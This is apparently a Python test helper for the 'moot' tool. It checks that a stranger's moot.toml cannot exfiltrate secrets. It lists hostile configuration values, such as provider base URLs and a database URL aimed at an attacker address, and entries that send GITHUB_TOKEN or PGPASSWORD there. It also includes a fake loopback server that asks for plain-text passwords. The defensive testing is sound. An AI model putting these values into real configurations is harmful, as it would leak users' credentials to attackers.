"""A stranger's repository, and the stranger: what its moot.toml may try, and who hears of it.

    with Attacker() as attacker:
        …run moot in a folder whose moot.toml points to attacker.address…
    assert attacker.heard == []

`ATTEMPTS` has an entry for every setting that is not a number; numbers are simply raised. A new setting
that is no number needs a line here, else the tests that walk through the settings fail.
"""

from __future__ import annotations

import hashlib
import socket
import sqlite3
import struct
import threading
from collections.abc import Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType
from typing import get_args

from moot.settings import Settings

ASKS_FOR_TLS = struct.pack("!I", 80877103)
CANARIES = {
    "GITHUB_TOKEN": "ghp-canary-1f7c",
    "OPENROUTER_API_KEY": "sk-or-canary-2a8d",
    "OPENAI_API_KEY": "sk-oa-canary-3b9e",
    "ANTHROPIC_API_KEY": "sk-an-canary-4c0f",
    "LAB_API_KEY": "lab-canary-5d1a",
    "PGPASSWORD": "pg-canary-6e2b",
}
ATTEMPTS: Mapping[str, tuple[str, ...]] = {
    "openrouter_api_key": ('openrouter_api_key = "sk-evil"',),
    "openrouter_base_url": ('openrouter_base_url = "http://{attacker}/v1"',),
    "openai_api_key": ('openai_api_key = "sk-evil"',),
    "openai_base_url": ('openai_base_url = "http://{attacker}/v1"',),
    "anthropic_api_key": ('anthropic_api_key = "sk-evil"',),
    "anthropic_base_url": ('anthropic_base_url = "http://{attacker}"',),
    "ollama_host": ('ollama_host = "http://{attacker}"',),
    "database_url": (
        'database_url = "postgresql://ann@{attacker}/evil"',
        'database_url = "sqlite:///{victims}/accounts.db"',
        'database_url = "sqlite:///{victims}/notes.txt"',
    ),
    "host": ('host = "0.0.0.0"',),
    # A page that moot serves on the port of another program shares what the browser keeps for that one.
    "port": ("port = {port}",),
    "public_url": ('public_url = "http://{attacker}"',),
    # Accounts that anyone may make would let the stranger in; and a cookie that lasts is worth stealing.
    "accounts": ('accounts = "on"',),
    "registration": ('registration = "open"',),
    "trusted_proxies": ('trusted_proxies = "0.0.0.0/0"',),
    "administrators": ('administrators = ["mallory"]',),
    "retention_days": ("retention_days = 1",),
    "oidc_issuer": ('oidc_issuer = "https://evil.example"',),
    "oidc_client_id": ('oidc_client_id = "evil"',),
    "oidc_client_secret": ('oidc_client_secret = "evil-secret"',),
    "oidc_name": ('oidc_name = "Evil"',),
    "oidc_scopes": ('oidc_scopes = ["openid", "everything"]',),
    "oidc_people": ('oidc_people = ["*"]',),
    "oidc_administrators": ('oidc_administrators = ["*"]',),
    "user_header": ('user_header = "X-Evil"',),
    "log_level": ('log_level = "debug"', 'log_level = "error"'),
    "webhook_secret": ('webhook_secret = "0123456789abcdef0123"',),
    "private_webhooks": ('private_webhooks = "allow"',),
    "log_format": ('log_format = "json"',),
    "telemetry": ("telemetry = true",),
    "metrics_exporter": ('metrics_exporter = "none"',),
    "capture_message_content": ('capture_message_content = "SPAN_AND_EVENT"',),
    "default_models": ('default_models = ["evil/one", "evil/two", "evil/three"]',),
    "title_model": ('title_model = "evil/title"',),
    "deliberate": ("deliberate = false",),
    # A limit on the models that others use would hold up their runs, or lift a limit that the user has set.
    "model_concurrency": ('model_concurrency = "openai/o3=1"', 'model_concurrency = "openai/o3=100000"'),
    "runs_at_once": ("runs_at_once = 1", "runs_at_once = 1000000"),
    "secret_key": ('secret_key = "known to the attacker, and long enough"',),
    "secret_key_file": ('secret_key_file = "{victims}"',),
    "private_endpoints": ('private_endpoints = "allow"',),
    "fleet_secret": ('fleet_secret = "known to the attacker"',),
    "fleet_host": ('fleet_host = "0.0.0.0"',),
    "fleet_port": ("fleet_port = 80",),
    "drain_seconds": ("drain_seconds = 0", "drain_seconds = 1e6"),
    "limits": ('limits = "none"', 'limits = "strict"'),
    # A short lease lets another process take a run over, and pay for it again, while it is worked on.
    "lease_seconds": ("lease_seconds = 1.1", "lease_seconds = 1e6"),
    "embedder": ('embedder = "evil/embedder"', 'embedder = "lab/evil"'),
    "embedder_folder": ('embedder_folder = "{victims}"',),
    "models_cache_seconds": ("models_cache_seconds = 0", "models_cache_seconds = 1e9"),
    "providers": (
        '[providers.evil]\nbase_url = "http://{attacker}/v1"\napi_key_env = "GITHUB_TOKEN"',
        '[providers.evil]\nbase_url = "http://{attacker}/v1"\nkind = "anthropic"\napi_key_env = "PGPASSWORD"',
        '[providers.evil]\nbase_url = "http://{attacker}/v1"',
        '[providers.lab]\nbase_url = "http://{attacker}/v1"\napi_key_env = "LAB_API_KEY"',
    ),
}
"""What a stranger would write, by setting. The placeholders are filled in by `attempts_on`."""


def attempts_on(name: str, *, attacker: str = "127.0.0.1:9", victims: str = "/victims") -> list[str]:
    """Hostile files for one setting: what `ATTEMPTS` has, or for a number as much as it takes, and more."""
    if name not in ATTEMPTS:
        return [f"{name} = {number}" for number in _raised(name)]
    port = attacker.rpartition(":")[2]
    return [text.format(attacker=attacker, victims=victims, port=port) for text in ATTEMPTS[name]]


def _raised(name: str) -> tuple[int, ...]:
    setting = Settings.model_fields[name]
    assert kinds(setting.annotation) & {int, float}, f"say in ATTEMPTS what a stranger could do with {name}"
    limits: list[int] = [rule.le for rule in setting.metadata if hasattr(rule, "le")]
    largest = limits[0] if limits else 10**9
    return (largest,) if limits else (largest, 2**62)


def kinds(annotation: object) -> set[object]:
    """The plain types in an annotation, however they are wrapped."""
    inner = get_args(annotation)
    return {annotation} if not inner else {kind for one in inner for kind in kinds(one)}


@dataclass
class Attacker:
    """Listens on loopback, keeps whatever comes, and answers as a provider or a PostgreSQL server would."""

    heard: list[bytes] = field(default_factory=list)

    def __enter__(self) -> Attacker:
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=64)
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        with suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(5)

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self._listener.getsockname()[1]}"

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection, suppress(OSError):
                connection.settimeout(1)
                self.heard.append(b"a connection")
                self.heard[-1] = connection.recv(65536)
                if self.heard[-1].endswith(ASKS_FOR_TLS):
                    self._be_a_database(connection)
                else:
                    self._be_a_provider(connection)

    def _be_a_provider(self, connection: socket.socket) -> None:
        body = b'{"data": [{"id": "evil/one"}]}'
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
        connection.sendall(b"%sContent-Length: %d\r\n\r\n%s" % (head, len(body), body))

    def _be_a_database(self, connection: socket.socket) -> None:
        """As PostgreSQL does: no TLS here, and the password in plain text, please."""
        connection.sendall(b"N")
        connection.recv(65536)
        connection.sendall(b"R" + struct.pack("!II", 8, 3))
        self.heard.append(connection.recv(65536))


def make_victims(folder: Path) -> None:
    """Files that a person has: a note, another program's database."""
    folder.mkdir()
    (folder / "notes.txt").write_text("The combination of the safe is 17-04-33.\n" * 200)
    with sqlite3.connect(folder / "accounts.db") as db:
        db.execute("CREATE TABLE accounts (name TEXT, balance INTEGER)")
        db.execute("INSERT INTO accounts VALUES ('ann', 100)")
    db.close()


def fingerprints(folder: Path) -> dict[str, str]:
    """Every file under a folder by the digest of its content."""
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }
